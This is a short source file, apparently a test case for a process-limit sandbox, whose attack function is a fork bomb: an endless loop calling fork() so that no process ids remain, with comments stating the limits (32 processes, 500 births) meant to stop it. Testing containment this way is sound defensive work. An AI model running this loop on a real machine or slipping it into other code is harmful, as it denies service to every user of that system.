// Attack: every process forks for ever: no pid is left on the machine for anybody else.
// Ends: limit processes or limit births
// Limits: processes=32 births=500
import { fork } from "#posix";

export function attack(): void {
  for (;;) {
    try {
      fork();
    } catch {
      // Again.
    }
  }
}
